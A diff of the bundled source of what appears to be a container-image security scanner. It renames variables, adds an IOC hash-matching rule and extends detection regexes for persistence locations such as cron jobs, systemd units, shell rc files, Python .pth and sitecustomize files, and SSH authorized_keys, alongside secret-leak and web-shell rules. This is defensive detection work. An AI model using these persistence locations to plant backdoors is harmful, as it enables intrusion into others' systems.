h/rPQfxPfFyQ6uhID/30T+Lx5/JBJanyZi/wF+QHw6ntSjqaTO73/eU3+k4oecnkiIzX/8RK1/ZNK2+vNcP/vZxuMG9Hp/L/Gfv9h4tHzAlf9fsf9Kdeu5Hj1TzEPQ9gJYe/zoH/G1+huD57VfUHul+jtTPp/98tcB/EHF7919qVh5BMFjf9dh/5cQnT+XZfCV+TXC9vN3VfLh8WNUj6RSvfz2Y50qYz4S1tJpsfGzQvNC6zdQo/pUmheMv3w+H+LjyWxOQwaUZ/xVhfiBHi2XRTXA0/7ViE+Tlx+bs5e28QNb/+S6BsXvo+KndA/SAK/4X6kZKdX4qPl/PRzt0ZJJU4fp6Iv1/leAWsRbqFWEcI6+/wAY85f/lep86P3RJm+bv3WfP5IDACMQb+RfqP7eUevp8vfqsXhSZPwwEvF9WjzRnU8K+B+AUZjvFp9/Ctjkr9JzAvIPVNfD/Cpx+etT8nM5PdOXyub47G9V7Sx1A8zr2azWrUfiGb71YzJ+HI37Tyqb69MyAvbrUmVDxOcG4qQAAuvff1U3QnxE1zIi/g+q4tLGuP+kktl8n54J2/aPgMv8NTm/sInPsX/EGAOQNLzmT9XACN+muP9Z8otG2Lb8wVh/OkfdDMnvTyW1bl3M/2+O/ZeejOnZXqH4fQtc//GklozqQvsXtqTqP54kYwiR/r8V1r9MvJ9sf+R9f31V3aXy1lj/k3pfKhmPFiNwr/iH7L8P+nD8n06khvQMP7+Nsg32X1oiUVx75Fu/uEUdg3gjeMpGtaSA/9wWt182imi+9t+O6v+Joe5UspSGl/0g82cNuP9kInGcAa/2J+v/21PxQ1c+Izh+2AHxvRkNjd755m/GUvHDUFoTGj9co+7ow/Pna1KZNP/6O9H/nRCfXZ3XRMe/O+P6j2cipApE5O+C9SffnU1q3QL60+hrxP1Hy2mxVLeQ/27CfEzcfzZTfKMw32KXLxR/t/ha7fKF+FZfG+7/CS2bi0eFxp/tmM+K7v+RfeMQ35NK6kPRVF+E0/6Q+/PG+6j9q7GkJtb/JtB8t8j6G+n/E2l+TTwl5j93tfFNcXr+HDz83yQbHxbiW9XJPrx+m+3Wk3FdxH5OweMXApfdj+f4Ra25X97NzqNN3DzzX1Nt469MLJ8b4tSfqpotfH+x8+FyAvTtcSz/mZB3x/Y3lUhEtIyA/XlKDmH7qydzGcH13w7MpxP5ZK+Y/k7D/U+PCs9/T6f5RlF+Bs5/Tsvls+lSDOo1/iD318/EfL4vRfawRznb31dzojrLxodRAjzrf7PtvMD4leyfnYP9Z68+lNDL5155/OdcKn7ODWiZGPf6O6n/Pezjl0S4J5dL2+JHdv7VuhfVeQ5ezP7NR/xgI52CbfqHOf+ywIfX7/u0mMD6K3l/wkJKvpEC2ORXjF8XUeOfTCoXL48gedYfFmM+J7r/BGAJ1p9EdyoR14TGT0vp9utK5PH8m7f/XYb1X8smmoovsbfNPwWZ53e71OU4fta6ejWB+S+yf3pPB2/bv19x/9Nevr1w/qM9ep8WzujdZCFiyLZ+yTr/0QZ70+OHRH5QzP6uwOPHVLI7FYuEtVzCuLzb6/yGr35veSXOfzI10JUoB+A8/X8fG59dnRCK//ZFfD6dzeEDmDzjv07cfv3hjJ7NlTQALZ+6nL8D2I8ef+TI6WuR+GV/H7X/IR1JDQqVP4z9Xz6STaf45++kaoADMK+l4/gMm3f/3UDRqPihu48cgCnXX+X5C+J/Igye9/yQVB/1RRn8QCae0zl4cn9zjJV/y4Xaps8Y+we2lHQ8/5fRE4mUWPzfhfhp+ezQtNRgsL+1iev8pL/u/6DbV/5+9sI9jTdY7RLs1zPZuOf9zWT+uwfxW5/gB4/zj47zg3HEL56Hb2PmOT95v7IK8WPvaP5djAfoRfzvE9es2MeDt9d/AvGtHSu3X7aSn1eqXpX6ED9xzf037bAFPw9VN0lJxC/VMttsVi2W/xTie7Krs6L1l0a8OmbBJmL8+vJqxB83f59FUF+7WW3l87fIf+bUDOKnz2hpaZXEyp9FPLnzQ+ur9eDx+OcYNefg62s9eOr8cx7xa5avyInWfz/i43+CH8D89OmLRXhJnaIMIn7OuOxcMR5gCPE7z5/eIZr/NYhv/BP8gYjvig90i/IHIb6hLWYjvM5Pb6IejPn2FmH7eQjFtwrzh1J8mzBfoPh2QX4n32EUP05Y/uEUP16YP4LiJwjzR1L8RGH+KIrfVZg/muInCfPHYH6cqP60ysdSvKj+ROE4im8Xzv/xFC+uPydQvKj+rA8nUry4/vyV4sX15ySKF9efkyleXH/WUrwmaP8ATqH4iDB/KsVHhfnTKD4mzJ9O8bowfwbFdwnzZ2J+vLj/OIvixf3H2RQv7j/OoXjx/n8uxYv2/0/l8yhe3H+cT/Hi/f8Cihfv/xdSvHj/v4jiRfv/rdLFFC/e/y+heHH9vxTzE8T19zKKF9XffeXLKV5cf6+geHH/dSXFi+vvVRQvrr9XU7y4/l5D8eL6ey3Fi/uv6yheXH+vp3hx/3UDxYv7rxspXtx/3UTxov5rwHczxYv331swP1HUfx0h30rxov1/pu82ihft/5J6O8WL9/87KF68/99J8eL9/y6KF+//d1O8eP+/h+LF+/+9FC/a/w+R7qN40f5fK9+P+M5B2wRAEDzvP3sA8+TqvphNfMX1x33UB6nxn2j/X6E8RPGi5X9JeZgqf3slnNl+j1D8OGH+UYofL8w/RvEThPnHKX6iMP+Erf3bveaf0d+yb0/lSRs/TogHeMrGjxfkn7bxEwR4yRdSnrHxEwXlP0vxBwrbj+cwv2eL8cM7fyv5n/U9j/mWygMIVv9/geLF7e+LFC9uf1/CfKv4+PFlihf1v6cqr1C8+PjxVYoX97+vUby4/32d4sX97xsUL97+b1K8ePu/hfjttx0U5P+hvE3xKwT5d3zvULy4/r1L8aLtd6T6HsWLtt/h0vsUL9p+y5QPKF60/T5SP6R48fjpI4oXHz99TPHi4+9PMJ9IDUS0zBRe+0v2T36K+Z6hdI+e5ObJ/qPPEL86n8rpscZ0Jp409mF43d8FAYDPEf//AA==";
 
 // src/secrets/prefilter/prebuilt.ts
 function keyOf2(literals) {
@@ -67237,9 +67372,9 @@ function collectTexts(value, found) {
     }
 }
 function learned(redactor, scanner, ...data) {
-  const texts2 = /* @__PURE__ */ new Set();
-  collectTexts(data, texts2);
-  return redactor.with(tokensIn(scanner, [...texts2].join("\n")));
+  const texts3 = /* @__PURE__ */ new Set();
+  collectTexts(data, texts3);
+  return redactor.with(tokensIn(scanner, [...texts3].join("\n")));
 }
 var finder = (text5) => tokensIn(processScanner(), text5);
 var plainRedactor = () => new Redactor([], finder);
@@ -67805,10 +67940,10 @@ function readStatus(text5, nameKey, versionKey, add3) {
 }
 
 // src/packages/apk.ts
-var INSTALLED = /^\/(?:usr\/)?lib\/apk\/db\/installed$/;
+var INSTALLED2 = /^\/(?:usr\/)?lib\/apk\/db\/installed$/;
 var APK = {
   records: {
-    wants: (path19) => INSTALLED.test(path19),
+    wants: (path19) => INSTALLED2.test(path19),
     // P: package, F: directory, R: file, Z: checksum (`Q1` and base64 of the SHA-1).
     read(files, add3) {
       for (const { content } of files) {
@@ -68292,8 +68427,8 @@ function collectLeaks({
       vouchedBy !== null ? [] : found.places.map((place) => ({ ...place, strength: match2.strength, note: match2.note }))
     );
   }
-  const texts2 = configTexts(image, origin);
-  for (const text5 of texts2) {
+  const texts3 = configTexts(image, origin);
+  for (const text5 of texts3) {
     for (const match2 of scanner.scanText(text5.text))
       add3(
         match2,
@@ -68315,7 +68450,7 @@ function collectLeaks({
     }
   }
   for (const match2 of others) add3(match2, isRepeated(match2) ? [] : [placed2(otherPlace(match2), match2)]);
-  values.push(...addKnownValues([...byIdentity.values()], texts2, attestations, documents, origin));
+  values.push(...addKnownValues([...byIdentity.values()], texts3, attestations, documents, origin));
   const collected = [...byIdentity.values()];
   const told = pairKeys(collected);
   const leaks = collected.filter((each2) => !told.has(each2)).map(({ kind, match: match2, places }) => {
@@ -68432,7 +68567,7 @@ function attestedLines(field2, line2, { dockerfile, linesOf: linesOf2 }) {
   const lines = said2 === void 0 ? null : linesOf2(said2);
   return lines?.certainty === "exact" ? lines : null;
 }
-function addKnownValues(collected, texts2, attestations, documents, origin) {
+function addKnownValues(collected, texts3, attestations, documents, origin) {
   const values = [];
   let searched = 0;
   for (const { kind, match: match2, places } of collected) {
@@ -68456,10 +68591,10 @@ function addKnownValues(collected, texts2, attestations, documents, origin) {
       }
     }
   }
-  addRepeats(collected, texts2, values);
+  addRepeats(collected, texts3, values);
   return values;
 }
-function addRepeats(collected, texts2, values) {
+function addRepeats(collected, texts3, values) {
   const byValue = /* @__PURE__ */ new Map();
   for (const { kind, match: match2, places } of collected) {
     if (match2.strength === "harmless") continue;
@@ -68470,7 +68605,7 @@ function addRepeats(collected, texts2, values) {
     byValue.set(match2.value, [...byValue.get(match2.value) ?? [], { match: match2, places, isWord: isWord5, known: known3 }]);
   }
   const search = new ValueSearch(byValue.keys());
-  for (const { text: text5, place } of texts2) {
+  for (const { text: text5, place } of texts3) {
     for (const value of new Set([...search.in(text5)].map((found) => found.value))) {
       for (const { match: match2, places, isWord: isWord5, known: known3 } of byValue.get(value) ?? []) {
         const added = { ...place, strength: match2.strength, name: null, note: match2.note };
@@ -70180,7 +70315,7 @@ var secretInImage = {
 };
 
 // src/rules/secret/secret-mount-copied.ts
-var meta38 = {
+var meta39 = {
   id: "secret-mount-copied",
   title: "A mounted secret is written into the layer",
   description: "A RUN mounts a secret and writes it to a file that stays in its layer: then it is as public as a copied one.",
@@ -70213,7 +70348,7 @@ function writtenBy(command2, mount, variables) {
   const { name: name2, args, writes, reads, fedBy, input: input2 } = command2;
   const operands = optionsIn(command2).operands.map(({ value }) => value);
   const inVariable = (text5) => [...variables].some((variable) => new RegExp(`\\$\\{?${variable}\\b`).test(text5));
-  const has = (texts2) => texts2.some((text5) => holds(text5, mount) || inVariable(text5));
+  const has = (texts3) => texts3.some((text5) => holds(text5, mount) || inVariable(text5));
   const words2 = args.map(({ value }) => value);
   if (/^(?:cp|install|mv|ln|rsync)$/.test(name2) && has(operands.slice(0, -1)) && !(name2 === "ln" && optionsIn(command2).has("-s", "--symbolic"))) {
     const last = operands.at(-1) ?? "";
@@ -70253,7 +70388,7 @@ function inLayer({ layers }, { layer, variables }, path19, workdir) {
   return entry === void 0 ? null : { path: entry.path, bytes: entry.size };
 }
 var secretMountCopied = {
-  meta: meta38,
+  meta: meta39,
   *check(evidence) {
     for (const step2 of evidence.steps) {
       if (step2.layer === null) continue;
@@ -70267,7 +70402,7 @@ var secretMountCopied = {
             const file = inLayer(evidence, step2, written, workdir);
             if (file === null || told.has(file.path)) continue;
             told.add(file.path);
-            yield onCommand(meta38, step2, command2, {
+            yield onCommand(meta39, step2, command2, {
               message: `RUN mounts the secret ${mount.id} and writes it to ${file.path} (${quote(evidence.cut, command2)}): the file is in layer ${step2.layer} (${file.bytes} bytes), for everyone who can pull the image.`,
               remedy: remedyFor2(command2, mount, file.path),
               identity: [mount.id, file.path]
@@ -70284,7 +70419,7 @@ var secretMountCopied = {
           (candidate) => candidate.kind === "file" && candidate.version.content.layer === step2.layer
         );
         if (leak === void 0 || place?.kind !== "file") continue;
-        yield onStep(meta38, step2, {
+        yield onStep(meta39, step2, {
           confidence: "medium",
           message: `RUN mounts the secret ${mount.id}, and its layer ${step2.layer} holds a secret in ${place.version.path}: what the RUN runs may have written it there.`,
           remedy: `Look into ${place.version.path}. Let the command read /run/secrets/${mount.id} and write it nowhere.`,
@@ -70420,7 +70555,7 @@ function accountAdvice(evidence) {
 }
 
 // src/rules/user/missing-user.ts
-var meta39 = {
+var meta40 = {
   id: "missing-user",
   title: "No USER: the container runs as root",
   description: "The image sets no user, so the container runs as root.",
@@ -70434,7 +70569,7 @@ var meta39 = {
 };
 var NONROOT_BASE = /:(?:[\w.-]*-)?nonroot\b|^cgr\.dev\/chainguard\/|^dhi\.io\//;
 var missingUser = {
-  meta: meta39,
+  meta: meta40,
   *check(evidence) {
     const { user, built, base, fromLines: fromLines2 } = evidence;
     if (user.configured !== "") return;
@@ -70447,7 +70582,7 @@ var missingUser = {
     if (built === null && base !== null && NONROOT_BASE.test(base.reference)) return;
     const drop = dropsPrivileges(evidence);
     if (drop !== null) {
-      yield placed(meta39, {
+      yield placed(meta40, {
         ...at3,
         severity: "info",
         message: `The image sets no USER, and its entrypoint ${drop.script ?? drop.by} drops from root to ${drop.to ?? "another user"} (${drop.by}): the service does not run as root, docker exec and what the entrypoint does before do.`,
@@ -70456,7 +70591,7 @@ var missingUser = {
       return;
     }
     if (built === null && bringsDropper(evidence)) {
-      yield placed(meta39, {
+      yield placed(meta40, {
         ...at3,
         severity: "info",
         confidence: "low",
@@ -70468,7 +70603,7 @@ var missingUser = {
     const made = madeUser(evidence);
     const line2 = made?.step.lines;
     const unused = made === null ? "" : ` ${line2 == null ? "The build" : `Line ${line2.startLine}`} makes the user ${made.name}; no USER names it.`;
-    yield placed(meta39, {
+    yield placed(meta40, {
       ...at3,
       ...built === null ? { confidence: "low" } : {},
       message: built === null ? `No USER in the last stage: the container runs as root unless ${base?.reference ?? "the base image"} sets another user.${unused}` : `The image sets no USER: the container runs as root.${unused}`,
@@ -70478,7 +70613,7 @@ var missingUser = {
 };
 
 // src/rules/user/root-user.ts
-var meta40 = {
+var meta41 = {
   id: "root-user",
   title: "The container runs as root",
   description: "USER names root: by name, by number, or by an account whose uid is 0 in the /etc/passwd of the image.",
@@ -70492,7 +70627,7 @@ var meta40 = {
   hadolint: ["DL3002"]
 };
 var rootUser = {
-  meta: meta40,
+  meta: meta41,
   *check(evidence) {
     const { user, userLines } = evidence;
     if (user.configured === "" || user.isRoot !== true) return;
@@ -70507,7 +70642,7 @@ var rootUser = {
     };
     const drop = dropsPrivileges(evidence);
     if (drop !== null) {
-      yield placed(meta40, {
+      yield placed(meta41, {
         ...at3,
         severity: "info",
         message: `${says}, and the entrypoint ${drop.script ?? drop.by} drops to ${drop.to ?? "another user"} (${drop.by}): the service does not run as root, docker exec and what the entrypoint does before do.`,
@@ -70518,12 +70653,12 @@ var rootUser = {
     const made = madeUser(evidence);
     const line2 = made?.step.lines;
     const unused = made === null ? "" : ` ${line2 == null ? "The build" : `Line ${line2.startLine}`} makes the user ${made.name}; the last USER does not name it.`;
-    yield placed(meta40, { ...at3, message: `${says}.${unused}`, remedy: userAdvice(evidence) });
+    yield placed(meta41, { ...at3, message: `${says}.${unused}`, remedy: userAdvice(evidence) });
   }
 };
 
 // src/rules/user/user-unknown.ts
-var meta41 = {
+var meta42 = {
   id: "user-unknown",
   title: "USER is not in the image",
   description: "USER names an account or a group that the image does not have: the container cannot start. A number without an account starts, and is said.",
@@ -70535,13 +70670,13 @@ var meta41 = {
   enabled: true
 };
 var userUnknown = {
-  meta: meta41,
+  meta: meta42,
   *check({ user, userLines, collected, accounts, filesystem }) {
     if (user.configured === "") return;
     const [name2 = "", group = ""] = user.configured.split(":");
     const at3 = { location: { kind: "config", field: "User" }, dockerfile: userLines, origin: "own" };
     if (user.uid === null) {
-      yield placed(meta41, {
+      yield placed(meta42, {
         ...at3,
         message: `USER ${user.configured}: the image has no account ${name2} in /etc/passwd, so a container of it cannot start.`,
         remedy: `Create ${name2} in the stage that is shipped (in a multi-stage build, accounts of other stages are not copied), or write its number: USER 10001.`,
@@ -70550,7 +70685,7 @@ var userUnknown = {
       return;
     }
     if (group !== "" && user.gid === null) {
-      yield placed(meta41, {
+      yield placed(meta42, {
         ...at3,
         title: "The group of USER is not in the image",
         message: `USER ${user.configured}: the image has no group ${group} in /etc/group, so a container of it cannot start.`,
@@ -70562,7 +70697,7 @@ var userUnknown = {
     if (filesystem.find("/etc/passwd") === null || user.uid === 0 || accounts.some(({ uid }) => uid === user.uid))
       return;
     if (collected("/etc/passwd") === null) return;
-    yield placed(meta41, {
+    yield placed(meta42, {
       ...at3,
       title: "The number of USER has no account",
       severity: "info",
@@ -70619,6 +70754,7 @@ var IMAGE_RULES = [
   generatedKey,
   hiddenExecutable,
   initPersistence,
+  knownIndicator,
   loaderPreload,
   notDistroless,
   packageCacheLeft,
@@ -70628,7 +70764,7 @@ var IMAGE_RULES = [
   webShell
 ];
 var RULES = [...BUILD_RULES, ...IMAGE_RULES].sort((a, b) => a.meta.id < b.meta.id ? -1 : 1);
-var findRule = (id) => RULES.find(({ meta: meta42 }) => meta42.id === id) ?? null;
+var findRule = (id) => RULES.find(({ meta: meta43 }) => meta43.id === id) ?? null;
 
 // src/policy/allow.ts
 import { createHmac as createHmac3 } from "node:crypto";
@@ -74067,10 +74203,10 @@ function ruleSchema(options4) {
 }
 var rulesSchema = strictObject(
   Object.fromEntries(
-    RULES.map(({ meta: meta42, options: options4 }) => [meta42.id, ruleSchema(options4).optional().describe(meta42.description)])
+    RULES.map(({ meta: meta43, options: options4 }) => [meta43.id, ruleSchema(options4).optional().describe(meta43.description)])
   )
 );
-var ruleIds = RULES.map(({ meta: meta42 }) => meta42.id);
+var ruleIds = RULES.map(({ meta: meta43 }) => meta43.id);
 var ignoreSchema = strictObject({
   rule: _enum(ruleIds).optional().describe("the rule whose findings are ignored; none: every rule"),
   path: string2().min(1).optional().describe("pattern of the path in the image, such as /app/test/**"),
@@ -74195,13 +74331,13 @@ function toPolicy(name2, config2) {
     salt: config2.salt ?? null
   };
 }
-function ruleSetting({ meta: meta42, options: options4 }, config2) {
-  const { severity, ...given2 } = asObject(config2.rules?.[meta42.id]);
-  const inherited2 = meta42.id === "base-unknown" ? { allow: asObject(config2.rules?.["base-not-allowed"])["allow"] } : {};
+function ruleSetting({ meta: meta43, options: options4 }, config2) {
+  const { severity, ...given2 } = asObject(config2.rules?.[meta43.id]);
+  const inherited2 = meta43.id === "base-unknown" ? { allow: asObject(config2.rules?.["base-not-allowed"])["allow"] } : {};
   const parsed = options4?.parse({ ...inherited2, ...given2 }) ?? {};
   return {
     severity: severity === void 0 || severity === "off" ? null : severity,
-    enabled: severity === void 0 ? meta42.enabled : severity !== "off",
+    enabled: severity === void 0 ? meta43.enabled : severity !== "off",
     options: parsed
   };
 }
@@ -74230,9 +74366,9 @@ var didYouMean = (name2, names2) => {
 };
 function namesAt(where) {
   if (where.length === 0) return TOP_KEYS;
-  if (where[0] === "rules" && where.length === 1) return RULES.map(({ meta: meta42 }) => meta42.id);
+  if (where[0] === "rules" && where.length === 1) return RULES.map(({ meta: meta43 }) => meta43.id);
   if (where[0] === "rules")
-    return ["severity", ...Object.keys(RULES.find(({ meta: meta42 }) => meta42.id === where[1])?.options?.shape ?? {})];
+    return ["severity", ...Object.keys(RULES.find(({ meta: meta43 }) => meta43.id === where[1])?.options?.shape ?? {})];
   if (where[0] === "ignore") return ["rule", "path", "fingerprint", "value", "reason", "expires"];
   if (where[0] === "limits") return Object.keys(LIMITS);
   if (where[0] === "detectors") return DETECTOR_KEYS;
@@ -74370,7 +74506,7 @@ var isCovered = (entry, others) => others.some(
 );
 var rankOf2 = (id, { rules }) => {
   const setting2 = rules[id];
-  const own2 = setting2?.severity ?? RULES.find(({ meta: meta42 }) => meta42.id === id)?.meta.severity ?? "info";
+  const own2 = setting2?.severity ?? RULES.find(({ meta: meta43 }) => meta43.id === id)?.meta.severity ?? "info";
   return setting2?.enabled === true ? { rank: SEVERITIES.length - SEVERITIES.indexOf(own2), word: setting2.severity ?? `${own2} by default` } : { rank: 0, word: "off" };
 };
 function ruleLoosenings(before, after2) {
@@ -81631,12 +81767,12 @@ async function hashEntries(layer, wanted) {
   });
   return found;
 }
-async function readEntries(layer, hashed2, texts2) {
+async function readEntries(layer, hashed2, texts3) {
   const checksums = /* @__PURE__ */ new Map();
   const contents = /* @__PURE__ */ new Map();
   await readContents(layer, (index) => {
     const hash3 = hashed2.has(index) ? createHash9("sha256") : null;
-    const chunks = texts2.has(index) ? [] : null;
+    const chunks = texts3.has(index) ? [] : null;
     if (hash3 === null && chunks === null) return null;
     return {
       take: (chunk) => {
@@ -82293,9 +82429,9 @@ var ZipReading = class {
     known3.to = start + await this.#member(name2, entry.compressionMethod, this.#bytes.subarray(start, start + entry.compressedSize));
   }
   /** Looks into what is packed beside the data of members: as it stands, it was read with the whole. */
-  async #aside(name2, texts2) {
+  async #aside(name2, texts3) {
     const { host, budget, account } = this.#opening;
-    for (const bytes2 of texts2) {
+    for (const bytes2 of texts3) {
       if (packingOf(bytes2.subarray(0, HEAD), "") === null) continue;
       budget.spend(bytes2.length, account);
       await deliver(host, name2, [bytes2]);
@@ -82851,6 +82987,12 @@ var PLACES = [
     metadata: ([, root, name2]) => [`${root}/doc/${name2}/copyright`],
     kept: "/doc/"
   },
+  // The tests of MySQL and MariaDB, which packages bring whole.
+  {
+    pattern: /^(.*\/mysql-test)\//,
+    metadata: ([, root]) => [`${root}/mysql-test-run.pl`, `${root}/main/grant.test`],
+    isPublished: true
+  },
   // The library of Go, with its tests.
   {
     pattern: /^(.*\/go(?:-\d[\d.]*)?)\/(?:src|test|api|misc|lib|doc)\//,
@@ -82941,6 +83083,8 @@ var COLLECTED = [
   /^\/etc\/periodic\/[^/]+\/[^/]+$|^\/var\/spool\/cron\/(?:crontabs\/)?[^/]+$/,
   /^\/(?:etc|usr\/lib|lib)\/systemd\/system\/[^/]+\.(?:service|timer)$/,
   /^\/(?:root|home\/[^/]+)\/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile)$/,
+  // Python runs these whenever it starts.
+  /\/(?:site|dist)-packages\/(?:[^/]+\.pth|sitecustomize\.py|usercustomize\.py)$/,
   /\/\.ssh\/authorized_keys2?$|^\/etc\/(?:ssh|dropbear)\/authorized_keys/
 ];
 function collectorOf(path19) {
@@ -83621,14 +83765,14 @@ var isBase642 = (value) => value.length >= 4 && !/[^A-Za-z0-9+/_=\s-]/.test(valu
 var withFiles = (path19, value) => isBase642(value) && /\binfos\[\d+\]\.data$/.test(nameOf4(path19())) ? Buffer.from(value, "base64").toString("utf8") : value;
 var nameOf4 = (path19) => fieldName(path19[0] === "predicate" && path19.length > 1 ? path19.slice(1) : path19, PLAIN_KEY2);
 function attestationTexts({ predicateType, document, envelope, statement }) {
-  const texts2 = [
+  const texts3 = [
     // What is no JSON is searched as it is stored: as one text without a field.
     ...document === null ? [] : [
       statement === void 0 ? plainText(document.toString("utf8")) : jsonText(document.toString("utf8"), withFiles)
     ],
     ...envelope === null ? [] : [jsonText(envelope.toString("utf8"), withoutPayload)]
   ];
-  return texts2.map(({ text: text5, find, locate }) => ({
+  return texts3.map(({ text: text5, find, locate }) => ({
     predicateType,
     text: text5,
     find,
@@ -84055,7 +84199,7 @@ var MAX_STEPS3 = 2e4;
 var MAX_CHAIN2 = 1024;
 var TOOLS = /^pkg:docker\/(?:docker\.io\/)?docker\/(?:dockerfile(?:-upstream)?|buildkit-syft-scanner)[@?]/;
 var text2 = string2().optional().catch(void 0);
-var texts = record(string2(), unknown()).optional().catch(void 0);
+var texts2 = record(string2(), unknown()).optional().catch(void 0);
 var line = object({ line: int().min(1) });
 var locations = object({
   locations: array(
@@ -84068,7 +84212,7 @@ var buildkitSchema = object({
     locations: record(string2(), locations).nullish().transform((value) => value ?? {})
   }).optional(),
   layers: record(string2(), array(array(object({ digest: string2() }))).nullable()).nullish().transform((value) => value ?? {}),
-  vcs: texts
+  vcs: texts2
 });
 var stepsSchema = array(
   object({
@@ -84618,8 +84762,10 @@ async function learn(image, build2, { layers, others }, bounded3, options4) {
       ...others.skipped.map((part3) => ({ layer: null, ...part3 }))
     ]
   };
+  const { iocs } = options4;
   const evidence = {
     ...built,
+    iocs: iocs === void 0 ? null : { ...iocs, found: await filesWithHash(image, layers, iocs.hashes) },
     built,
     layers,
     origin,
@@ -84654,6 +84800,20 @@ async function hashesOfMatches(image, layers) {
   }
   return hashes2;
 }
+async function filesWithHash(image, layers, wanted) {
+  const found = /* @__PURE__ */ new Map();
+  if (wanted.size === 0) return found;
+  for (const [index, { entries }] of layers.entries()) {
+    const files = new Set(entries.flatMap(({ type, size }, entry) => type === "file" && size > 0 ? [entry] : []));
+    const layer = image.layers[index];
+    if (files.size === 0 || layer === void 0) continue;
+    for (const [entry, hashes2] of await hashEntries(layer, files)) {
+      const hash3 = Object.values(hashes2).find((each2) => wanted.has(each2));
+      if (hash3 !== void 0) found.set(`${index}:${entry}`, hash3);
+    }
+  }
+  return found;
+}
 var dockerfileTexts = ({ dockerfiles }, { dockerfile }) => [
   .../* @__PURE__ */ new Set([...dockerfiles.map(({ text: text5 }) => text5), ...dockerfile === null ? [] : [dockerfile.text]])
 ];
@@ -84676,12 +84836,12 @@ function addVersion(found, name2, version2) {
   const known3 = found.get(name2)?.split(", ") ?? [];
   if (!known3.includes(version2)) found.set(name2, [...known3, version2].sort().join(", "));
 }
-function packagesOf(present, texts2) {
+function packagesOf(present, texts3) {
   const found = /* @__PURE__ */ new Map();
   for (const { path: path19, content } of present)
     addPackages(
       path19,
-      texts2.get(`${content.layer}:${content.index}`) ?? null,
+      texts3.get(`${content.layer}:${content.index}`) ?? null,
       (name2, version2) => addVersion(found, name2, version2)
     );
   return found;
@@ -84702,17 +84862,17 @@ function settingsOf({ config: { run: run2 } }) {
 async function takeInventory(image, { layers, filesystem, collected }, shared2) {
   const present = [...filesystem.present()].filter(({ entry }) => entry.type !== "directory" && entry.whiteout === null);
   const hashed2 = layers.map(() => /* @__PURE__ */ new Set());
-  const texts2 = layers.map(() => /* @__PURE__ */ new Set());
+  const texts3 = layers.map(() => /* @__PURE__ */ new Set());
   for (const { content, entry, path: path19 } of present) {
     if (entry.type !== "file" && entry.type !== "hardlink") continue;
     if (!shared2.has(layers[content.layer]?.diffId ?? "")) hashed2[content.layer]?.add(content.index);
     const most = packageTextLimit(path19);
-    if (most > 0 && content.entry.size <= most) texts2[content.layer]?.add(content.index);
+    if (most > 0 && content.entry.size <= most) texts3[content.layer]?.add(content.index);
   }
   const checksums = /* @__PURE__ */ new Map();
   const contents = /* @__PURE__ */ new Map();
   for (const layer of image.layers) {
-    const [own2, few] = [hashed2[layer.index] ?? /* @__PURE__ */ new Set(), texts2[layer.index] ?? /* @__PURE__ */ new Set()];
+    const [own2, few] = [hashed2[layer.index] ?? /* @__PURE__ */ new Set(), texts3[layer.index] ?? /* @__PURE__ */ new Set()];
     if (own2.size + few.size === 0) continue;
     const read2 = await readEntries(layer, own2, few);
     for (const [entry, checksum2] of read2.checksums) checksums.set(`${layer.index}:${entry}`, `sha256:${checksum2}`);
@@ -85983,8 +86143,8 @@ var assignments = (line2) => [...line2.matchAll(/(?:^|\s)["']?([A-Za-z_][\w.-]*)
   isHidden: /\u2026|\u2022\u2022\u2022/.test(value)
 }));
 function findingsWith(findings, fixes) {
-  const texts2 = new Set(fixes.map((fix) => JSON.stringify(fix)));
-  return findings.filter(({ fix }) => fix !== null && texts2.has(JSON.stringify(fix)));
+  const texts3 = new Set(fixes.map((fix) => JSON.stringify(fix)));
+  return findings.filter(({ fix }) => fix !== null && texts3.has(JSON.stringify(fix)));
 }
 function changedWith(findings, finding) {
   if (finding.fix === null) return null;
@@ -86012,7 +86172,7 @@ function fixParts({ source: source2, report }, finding) {
 function withoutHiddenFix(finding, lines, redactor) {
   const { fix } = finding;
   if (fix === null) return finding;
-  const isHidden = (texts2) => redactor.lines(texts2).some((text5, index) => text5 !== texts2[index]);
+  const isHidden = (texts3) => redactor.lines(texts3).some((text5, index) => text5 !== texts3[index]);
   const bad = fix.edits.filter((edit) => isHidden(edit.lines));
   if (bad.length === 0 && !isHidden(fix.ignore?.patterns ?? []) && !isHidden(fix.build)) return finding;
   const sentences = bad.map((edit) => {
@@ -86230,10 +86390,10 @@ function readComment(text5) {
   const expires = until?.[1]?.replace(/(?<![.,;)])[.,;)]+$/, "") ?? null;
   const reason = rest.replace(until?.[0] ?? "", "").replace(/^(?:reason=|[-\u2013\u2014:\s(])+|(?<![\s(])[\s(]+$/g, "").trim();
   const ids = names2.split(",").filter((id) => id !== "");
-  const unknown2 = ids.find((id) => !RULES.some(({ meta: meta42 }) => meta42.id === id));
+  const unknown2 = ids.find((id) => !RULES.some(({ meta: meta43 }) => meta43.id === id));
   const near = unknown2 === void 0 ? null : nearest(
     unknown2,
-    RULES.map(({ meta: meta42 }) => meta42.id)
+    RULES.map(({ meta: meta43 }) => meta43.id)
   );
   const problem = ids.length === 0 ? "names no rule" : unknown2 !== void 0 ? `names ${JSON.stringify(unknown2)}, which is no rule${near === null ? "" : ` (did you mean ${near}?)`}` : expires !== null && !isDate(expires) ? `has ${JSON.stringify(expires)} where a day is due (until YYYY-MM-DD)` : detectorProblem(detector) ?? (reason.length < 3 ? "gives no reason" : null);
   return {
@@ -86320,7 +86480,7 @@ function textOf3(lines, startLine, endLine, isBase) {
     (line2) => isBase || !/^FROM /i.test(line2) ? line2 : line2.replace(/^(FROM (?:--\S+ )*[^\s:@]+(?::\d+\/[^\s:@]+)?)\S*/i, "$1")
   ).join("\n");
 }
-var isOnSecrets = (rule) => RULES.some(({ meta: meta42 }) => meta42.id === rule && meta42.kind === "secret");
+var isOnSecrets = (rule) => RULES.some(({ meta: meta43 }) => meta43.id === rule && meta43.kind === "secret");
 var isTooWide = ({ rule, inImage, detector, startLine }, dockerfile) => inImage === null && detector === null && isOnSecrets(rule) && dockerfile.stages.some(
   ({ instructions }) => instructions.some(
     (each2) => each2.startLine <= startLine && startLine <= each2.endLine && /^(?:COPY|ADD)$/i.test(each2.keyword)
@@ -86474,8 +86634,8 @@ function judge(rules, drafts, evidence, { policy, inline, pending, baseline, sal
       ...inlineWarnings(inline, rules, policy, used, evidence.now)
     ],
     record: shown2.flatMap((finding) => record2.get(finding) ?? []),
-    fixed: comparison?.fixed((id) => policy.rules[id]?.enabled === true && rules.some(({ meta: meta42 }) => meta42.id === id)) ?? [],
